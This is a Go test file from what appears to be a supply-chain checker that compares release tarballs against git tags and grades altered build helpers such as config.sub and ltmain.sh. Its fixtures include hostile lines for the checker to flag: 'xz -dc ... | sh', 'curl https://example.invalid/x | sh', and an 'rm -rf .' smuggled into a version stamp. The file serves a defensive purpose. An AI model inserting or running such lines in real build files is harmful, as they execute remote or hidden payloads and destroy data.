// tarball file is read.
func TestOmittedReferencesReadsOnlyForSources(t *testing.T) {
	reads := 0
	read := func(string) ([]byte, bool) {
		reads++
		return []byte("#include \"x.h\"\nEXTRA_DIST = docs/notes.md cfg.mk\n"), true
	}
	tag := []string{"src/a.c", "Makefile.am", "docs/notes.md", "cfg.mk", ".github/workflows/ci.yml"}
	in := func(p string) bool { return p == "src/a.c" || p == "Makefile.am" }
	if got := omittedPaths(tag, []string{"src/a.c", "Makefile.am"}, in, read); len(got) != 0 || reads != 0 {
		t.Errorf("non-source omissions: got %v after %d reads, want none and 0 reads", got, reads)
	}
	// Positive: an omitted header is looked for, and found.
	if got := omittedPaths(append(tag, "src/x.h"), []string{"src/a.c", "Makefile.am"}, in, read); !slices.Equal(got, []string{"src/x.h"}) || reads == 0 {
		t.Errorf("omitted header: got %v after %d reads", got, reads)
	}
}

// A copied helper matching no known version is judged by its lines: lines
// no known version holds are high with those lines as evidence, whatever
// date or version it claims; a helper made of known lines only (a
// recombination, a version the database lacks) is medium.
func TestHelperVocabClaim(t *testing.T) {
	v1 := "#! /bin/sh\ntimestamp='2021-08-14'\ncase $1 in\n  x86_64) cpu=x86_64 ;;\nesac\necho $cpu\n"
	v2 := "#! /bin/sh\ntimestamp='2023-01-21'\ncase $1 in\n  aarch64) cpu=aarch64 ;;\nesac\necho $cpu\n"
	b := origindb.NewVocabBuilder()
	b.AddFile("config.sub", []byte(v1))
	b.AddFile("config.sub", []byte(v2))
	voc, err := origindb.OpenVocab(b.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	ctx := claimsContext()
	ctx.HelperVocab = voc
	ctx.HelperCopies = func(string) [][2]string { return nil }
	judge := func(content string) (Severity, string, []string) {
		c := &classification{in: &Input{Path: "build-aux/config.sub", Status: StatusOnlyInTarball, Tarball: []byte(content)}, ctx: ctx, base: "config.sub"}
		return c.helperClaim(nil)
	}
	// An older real stamp with a payload line: high, the line as evidence.
	sev, why, ev := judge(strings.Replace(v1, "esac\n", "esac\nxz -dc tests/files/bad.xz | sh\n", 1))
	if sev != SevHigh || !strings.Contains(why, "1 line found in no known version") || !slices.Contains(ev, "+ xz -dc tests/files/bad.xz | sh") {
		t.Errorf("payload line: %s %q %q", sev, why, ev)
	}
	// A forged stamp alone is a stamp line, and a recombination of known
	// lines is medium.
	if sev, why, _ := judge(strings.Replace(v1, "2021-08-14", "2022-05-05", 1) + "  aarch64) cpu=aarch64 ;;\n"); sev != SevMedium || !strings.Contains(why, "recombination") {
		t.Errorf("recombination: %s %q", sev, why)
	}
	// Added comments and blank lines add nothing executable.
	if sev, _, _ := judge(v2 + "\n# a comment\n\n"); sev != SevMedium {
		t.Errorf("comment only: %s", sev)
	}
	// A stamp later than the tag stays impossible (high) even when every
	// line is known.
	if sev, why, _ := judge(strings.Replace(v2, "2023-01-21", "2099-01-01", 1)); sev != SevHigh || !strings.Contains(why, "later than the tag") {
		t.Errorf("future stamp: %s %q", sev, why)
	}
	// A helper the vocabulary does not cover falls back to the copies.
	c := &classification{in: &Input{Path: "build-aux/depcomp", Tarball: []byte("echo x\n")}, ctx: ctx, base: "depcomp"}
	if sev, why, _ := c.helperClaim(nil); sev != SevMedium || !strings.Contains(why, "not compared") {
		t.Errorf("uncovered helper: %s %q", sev, why)
	}
	// intltool's po/Makefile.in.in is not gettext's.
	b.AddFile("Makefile.in.in", []byte("all: all-yes\n"))
	voc, _ = origindb.OpenVocab(b.Bytes())
	ctx.HelperVocab = voc
	c = &classification{in: &Input{Path: "po/Makefile.in.in", Tarball: []byte("# Modified by intltool\nall: x\n")}, ctx: ctx, base: "Makefile.in.in"}
	if _, _, _, ok := c.helperVocabClaim(c.in.Tarball); ok {
		t.Error("intltool's Makefile.in.in judged by gettext's vocabulary")
	}
}

// TestOmittedReferenceKinds: an omission only a __has_include probe or an
// optional include notices is silent (high); one a plain #include or a
// build rule names stops the build that reaches it (medium); one named
// only by #include lines inside preprocessor conditionals (opus 1.5.2's
// celt/fixed_c5x.h, included only for a TI DSP; the include guard does
// not count) stops only a configuration that takes them (low); automake's
// nodist_ sources (gnutls' tests/suite/rng.c) are not a reference.
func TestOmittedReferenceKinds(t *testing.T) {
	tag := []string{"src/main.c", "src/hardening.h", "celt/arch.h", "celt/fixed_c5x.h", "celt/util.h", "cmake/opt.cmake",
		"cmake/req.cmake", "CMakeLists.txt", "lib/extra.c", "Makefile.am", "tests/rng.c"}
	tar := map[string]string{
		"src/main.c":     "#if __has_include(\"hardening.h\")\n# include \"hardening.h\"\n#endif\n",
		"celt/arch.h":    "#ifndef ARCH_H\n#define ARCH_H\n#include \"util.h\"\n#if defined(TI_C5X_ASM)\n#include \"fixed_c5x.h\"\n#endif\n#endif\n",
		"CMakeLists.txt": "include(${CMAKE_SOURCE_DIR}/cmake/opt.cmake OPTIONAL)\ninclude(${CMAKE_SOURCE_DIR}/cmake/req.cmake)\n",
		"Makefile.am":    "prog_SOURCES = lib/extra.c\nnodist_rng_SOURCES = \\\n\ttests/rng.c\n",
	}
	var files []string
	for p := range tar {
		files = append(files, p)
	}
	got := OmittedReferenceKinds(tag, slices.Values(files), func(p string) bool { _, ok := tar[p]; return ok }, func(p string) ([]byte, bool) {
		s, ok := tar[p]
		return []byte(s), ok
	})
	want := map[string]OmitKind{"src/hardening.h": OmitSilent, "cmake/opt.cmake": OmitSilent, "celt/fixed_c5x.h": OmitConditional,
		"celt/util.h": OmitPlain, "cmake/req.cmake": OmitPlain, "lib/extra.c": OmitPlain}
	if !maps.Equal(got, want) {
		t.Fatalf("got %v, want %v", got, want)
	}
	ctx := claimsContext()
	ctx.Omitted = func(p string) OmitKind { return got[p] }
	sev := map[OmitKind]Severity{OmitSilent: SevHigh, OmitPlain: SevMedium, OmitConditional: SevLow}
	for p, k := range want {
		if r := Classify(gitOnly(p), ctx); r.Severity != sev[k] {
			t.Errorf("%s: got %s/%s (%s), want %s", p, r.Class, r.Severity, r.Reason, sev[k])
		}
	}
	if r := Classify(gitOnly("tests/rng.c"), ctx); r.Severity != SevLow {
		t.Errorf("nodist_ source: got %s (%s), want low", r.Severity, r.Reason)
	}
}

// TestMoMatchesPODeterministic: with several messages of the .gmo missing
// from the .po, the reason names the same (first in order) every time; it
// used to follow map order and change from run to run.
func TestMoMatchesPODeterministic(t *testing.T) {
	msgs := map[string]string{}
	for i := range 40 {
		msgs[fmt.Sprintf("message %02d", i)] = fmt.Sprintf("traduction %02d", i)
	}
	mo := buildMO(msgs)
	po := []byte("msgid \"other\"\nmsgstr \"autre\"\n")
	first, ok := moMatchesPO(mo, po)
	if ok || !strings.Contains(first, `"message 00"`) {
		t.Fatalf("moMatchesPO = %q, %v; want the first message named", first, ok)
	}
	for range 20 {
		if why, _ := moMatchesPO(mo, po); why != first {
			t.Fatalf("reason changed between calls: %q, then %q", first, why)
		}
	}
}

// omittedPaths is the sorted paths OmittedReferenceKinds reports.
func omittedPaths(tagFiles, tarballFiles []string, inTarball func(string) bool, read func(string) ([]byte, bool)) []string {
	return slices.Sorted(maps.Keys(OmittedReferenceKinds(tagFiles, slices.Values(tarballFiles), inTarball, read)))
}

// A helper that is a known copy in every byte but its version stamps (a
// distribution's no-change rebuild) is proved low; anything more is not.
func TestClaimsStampedCopy(t *testing.T) {
	lt, err := os.ReadFile("/usr/share/libtool/build-aux/ltmain.sh")
	if err != nil {
		if os.Getenv("TARCHECK_REQUIRE_TOOLS") != "" {
			t.Fatalf("libtool is not installed: %v", err)
		}
		t.Skip("libtool is not installed")
	}
	ctx := &Context{Version: "1.0", TagTime: time.Now(), DB: Baseline()}
	version := regexp.MustCompile(`(?m)^VERSION="([^"]*)"$`)
	if !version.Match(lt) {
		t.Fatal("the installed ltmain.sh has no VERSION line")
	}
	rebuilt := version.ReplaceAll(lt, []byte(`VERSION="${1}build1"`))
	r := Classify(tarOnly("build-aux/ltmain.sh", string(rebuilt)), ctx)
	if r.Class != ClassUpstreamCopy || r.Severity != SevLow || !strings.Contains(r.Reason, "version stamp") || !strings.Contains(r.Reason, "build1") {
		t.Fatalf("rebuilt ltmain.sh: %s/%s (%s), want upstream-copy/low naming the stamp", r.Class, r.Severity, r.Reason)
	}
	for name, bad := range map[string][]byte{
		"stamp turned into a command": version.ReplaceAll(lt, []byte(`VERSION=x rm -rf .`)),
		"line added":                  append(append([]byte(nil), rebuilt...), "curl https://example.invalid/x | sh\n"...),
		"code edited":                 bytes.Replace(rebuilt, []byte("func_fatal_error "), []byte("func_echo "), 1),
	} {
		r := Classify(tarOnly("build-aux/ltmain.sh", string(bad)), ctx)
		if r.Class == ClassUpstreamCopy || r.Severity.Rank() < SevMedium.Rank() {
			t.Errorf("%s: %s/%s (%s), want unproved (≥ medium)", name, r.Class, r.Severity, r.Reason)
		}
	}
}

// TestNextBuildTokenIsTheRegexp: nextBuildToken splits a line into the
// tokens of the regexp it replaced, on random lines.
func TestNextBuildTokenIsTheRegexp(t *testing.T) {
	re := regexp.MustCompile(`[A-Za-z0-9_.+\-/]+`)
	rng := rand.New(rand.NewPCG(3, 4))
	const alpha = "ab9_.+-/ \t$(){}=:\\é\"'"
	for range 5000 {
		var b strings.Builder
		for range rng.IntN(30) {
			b.WriteByte(alpha[rng.IntN(len(alpha))])
		}
		line := b.String()
		var got []string
		for rest := line; ; {
			var tok string
			if tok, rest = nextBuildToken(rest); tok == "" {
				break
			}
			got = append(got, tok)
		}
		if want := re.FindAllString(line, -1); !slices.Equal(got, want) {
			t.Fatalf("tokens of %q: %q, want %q", line, got, want)
		}
	}
}
